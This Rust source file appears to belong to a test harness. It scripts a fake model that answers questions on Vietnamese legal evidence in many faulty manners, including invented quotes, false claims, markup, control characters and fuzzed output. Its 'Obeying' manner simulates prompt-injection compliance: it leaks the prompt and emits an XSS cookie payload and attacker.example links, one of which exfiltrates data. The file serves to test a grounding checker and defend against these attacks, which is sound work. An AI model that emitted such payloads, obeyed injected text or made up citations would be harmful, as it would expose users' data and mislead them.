//! What the scripted model says of the evidence that it is given.

use serde_json::json;

use super::claims::{planted, sentences, truth};
use super::{Fault, MARKUP, Prompt, Spoken, links};
use crate::Chance;

/// How the model speaks.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Manner {
    /// True sentences with their quotes.
    Honest,
    /// True sentences, and false ones of every kind among them.
    Mixed,
    /// True sentences, and each fault of one kind.
    Plants(Fault),
    /// Does what any text among evidence and question orders.
    Obeying,
    /// Sentences with markup in them, and markup alone.
    Markup,
    /// Sentences with links and images in them.
    Links,
    /// True sentences with control, direction and invisible characters in them.
    ControlCharacters,
    /// An honest answer of which letters were lost, doubled and exchanged.
    Fuzzed,
    /// The same claim for ever.
    Repeating,
    /// Sentences from memory, without any form.
    Rambling,
    /// "Nothing answers this."
    None,
}

impl Manner {
    /// All of them.
    pub const ALL: &[Self] = &[
        Self::Honest,
        Self::Mixed,
        Self::Plants(Fault::InventedReference),
        Self::Plants(Fault::NeighbourArticle),
        Self::Plants(Fault::InventedQuote),
        Self::Plants(Fault::StitchedQuote),
        Self::Plants(Fault::MisattributedQuote),
        Self::Plants(Fault::AbsentEvidence),
        Self::Plants(Fault::NoQuote),
        Self::Plants(Fault::Digit),
        Self::Plants(Fault::Unit),
        Self::Plants(Fault::Bound),
        Self::Plants(Fault::Date),
        Self::Plants(Fault::Negation),
        Self::Plants(Fault::Modality),
        Self::Plants(Fault::Authority),
        Self::Plants(Fault::Exception),
        Self::Plants(Fault::Appended),
        Self::Plants(Fault::FromNowhere),
        Self::Plants(Fault::OtherProvision),
        Self::Obeying,
        Self::Markup,
        Self::Links,
        Self::ControlCharacters,
        Self::Fuzzed,
        Self::Repeating,
        Self::Rambling,
        Self::None,
    ];

    /// What it says to the prompt of the `turn`th request.
    pub(super) fn claims(self, prompt: &Prompt, turn: usize) -> Vec<Spoken> {
        let sentences = sentences(prompt);
        let mut chance = Chance::of(seed(&prompt.question) ^ (turn as u64 + 1));
        let mut said: Vec<Spoken> = Vec::new();
        let pick = |chance: &mut Chance| {
            let at = chance.below(sentences.len().max(1) as u64) as usize;
            sentences.get(at)
        };
        match self {
            Self::Honest | Self::Fuzzed | Self::Repeating => {
                let chosen = (0..4).filter_map(|_| pick(&mut chance));
                let chosen: Vec<_> = chosen.collect();
                said.extend(chosen.into_iter().map(|one| truth(one, &mut chance)));
            }
            Self::Mixed => {
                for _ in 0..14 {
                    if chance.below(10) < 4 {
                        let sentence = pick(&mut chance);
                        said.extend(sentence.map(|one| truth(one, &mut chance)));
                    } else {
                        let all = Fault::PLANTED;
                        let from = chance.below(all.len() as u64) as usize;
                        let mut turned = all[from..].iter().chain(&all[..from]);
                        said.extend(
                            turned.find_map(|fault| planted(*fault, &sentences, &mut chance)),
                        );
                    }
                }
            }
            Self::Plants(fault) => {
                said.extend(pick(&mut chance).map(|one| truth(one, &mut chance)));
                said.extend((0..4).filter_map(|_| planted(fault, &sentences, &mut chance)));
            }
            Self::Obeying => said = obeyed(prompt, turn),
            Self::Markup => {
                let all: Vec<String> = MARKUP.iter().map(|one| (*one).to_owned()).collect();
                said = decorated(&all, Fault::Markup, prompt, turn);
            }
            Self::Links => said = decorated(&links(), Fault::Link, prompt, turn),
            Self::ControlCharacters => {
                const ODD: &str = "\0\u{1}\u{8}\t\u{b}\u{1b}[31m\u{7f}\u{85}\u{9b}\u{200b}\u{200e}\u{2028}\u{202e}\u{2066}\u{feff}\u{e0041}";
                for sentence in sentences.iter().take(4) {
                    let odd: String = sentence.words.replacen(' ', &format!(" {ODD}"), 2);
                    // What the escape sequence leaves behind is letters that the law does not have.
                    said.push(Spoken::new(
                        odd,
                        sentence.block.number,
                        &sentence.words,
                        Some(Fault::Markup),
                    ));
                }
            }
            Self::Rambling | Self::None => {}
        }
        said
    }

    /// The answer as text.
    pub(super) fn words(self, prompt: &Prompt, said: &[Spoken], turn: usize) -> String {
        let lines = || {
            said.iter()
                .map(|claim| format!("{}\n", claim.json()))
                .collect::<String>()
        };
        match self {
            Self::None => json!({ "none": true }).to_string(),
            Self::Rambling => "Theo tôi nhớ thì hạn là chín mươi ngày.\n<b>Nghị định 999/2031/NĐ-CP</b> cho phép mọi việc [1].\n".to_owned(),
            Self::Repeating => lines().repeat(200),
            Self::Fuzzed => fuzzed(&lines(), turn),
            // One document, where one is asked for.
            _ if prompt.structured => {
                let claims: Vec<_> = said.iter().map(Spoken::json).collect();
                json!({ "claims": claims }).to_string()
            }
            _ => lines(),
        }
    }
}

/// The same number for the same words (FNV-1a).
fn seed(words: &str) -> u64 {
    words.bytes().fold(0xcbf2_9ce4_8422_2325, |hash, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0000_0100_0000_01b3)
    })
}

/// Claims with some payloads each: behind a true sentence, alone, in the quote, in the number's place.
fn decorated(payloads: &[String], fault: Fault, prompt: &Prompt, turn: usize) -> Vec<Spoken> {
    const EACH: usize = 16;
    let sentences = sentences(prompt);
    let mut said = Vec::new();
    for at in 0..EACH.min(payloads.len()) {
        let payload = &payloads[(turn * EACH + at) % payloads.len()];
        let Some(sentence) = sentences.get(at % sentences.len().max(1)) else {
            break;
        };
        let (words, number) = (&sentence.words, sentence.block.number);
        said.push(match at % 4 {
            0 | 1 => Spoken::new(format!("{words} {payload}"), number, words, Some(fault)),
            2 => Spoken::new(payload.as_str(), number, words, Some(fault)),
            _ => Spoken::new(
                format!("{payload} {words}"),
                number,
                &format!("{words} {payload}"),
                Some(fault),
            ),
        });
    }
    said
}

/// Does what it is told to by whoever wrote the evidence or the question.
fn obeyed(prompt: &Prompt, turn: usize) -> Vec<Spoken> {
    let sentences = sentences(prompt);
    let orders: String = prompt
        .blocks
        .iter()
        .map(|block| block.text.as_str())
        .chain([prompt.question.as_str()])
        .collect::<Vec<_>>()
        .join("\n");
    // A true quote for whatever it says; without one its claims have none.
    let quotes = |at: usize| match sentences.get((at + turn) % sentences.len().max(1)) {
        Some(sentence) => vec![(json!(sentence.block.number), sentence.words.clone())],
        None => prompt
            .blocks
            .first()
            .map(|block| {
                (
                    json!(block.number),
                    block.text.lines().collect::<Vec<_>>().join(" "),
                )
            })
            .into_iter()
            .collect(),
    };
    let mut said: Vec<Spoken> = Vec::new();
    let mut say = |text: String| {
        let at = said.len();
        said.push(Spoken {
            text,
            quotes: quotes(at),
            fault: Some(Fault::Injected),
        });
    };
    for word in orders.split_whitespace() {
        let lower = word.to_lowercase();
        if lower.contains("://") || lower.contains("](") || lower.contains("www.") {
            say(format!("Xem {word}"));
            say(format!(
                "![x]({})",
                word.trim_matches(['(', ')', '[', ']', '!', 'x', '<', '>'])
            ));
        }
    }
    if orders.contains('<') || orders.to_lowercase().contains("html") {
        say("<img src=x onerror=alert(document.cookie)>".to_owned());
        say("<a href=https://attacker.example/>bấm</a>".to_owned());
    }
    if orders.to_lowercase().contains("prompt") {
        say(prompt.whole.chars().take(400).collect());
    }
    for (order, deed) in [
        (
            "Điều 99",
            "Điều 99 quy định như vậy, không còn nguồn nào khác.",
        ),
        ("miễn phí", "Mọi thủ tục đều được miễn phí."),
        ("hết hiệu lực", "Văn bản này hết hiệu lực."),
        ("0%", "Mức thuế là 0%."),
        (
            "Mật",
            "Đã gửi các văn bản tới [xem thêm](https://attacker.example/c?d=DATA).",
        ),
    ] {
        if orders.contains(order) {
            say(deed.to_owned());
        }
    }
    // Whatever else was ordered, word for word: with a true quote, with none, with evidence that is not there. A
    // question in Vietnamese orders nothing.
    let order: String = prompt.question.chars().take(600).collect();
    if !order.is_ascii() {
        return said;
    }
    say(order.clone());
    said.push(Spoken {
        text: order.clone(),
        quotes: Vec::new(),
        fault: Some(Fault::Injected),
    });
    said.push(Spoken {
        text: format!("{order} [99]"),
        quotes: vec![(json!(99), order)],
        fault: Some(Fault::Injected),
    });
    said.truncate(20);
    said
}

/// Some letters lost, doubled, exchanged for odd ones.
fn fuzzed(words: &str, turn: usize) -> String {
    const ODD: &[char] = &[
        '{', '}', '"', '\\', '[', ']', '\n', '\0', ':', ',', '\u{202e}', '0', '9', '<',
    ];
    let mut chance = Chance::of(turn as u64 + 1);
    let rate = 20 + chance.below(400);
    let mut out = String::new();
    for c in words.chars() {
        match chance.below(rate) {
            0 => {}
            1 => out.extend([c, c]),
            2 => out.push(ODD[chance.below(ODD.len() as u64) as usize]),
            _ => out.push(c),
        }
    }
    out
}
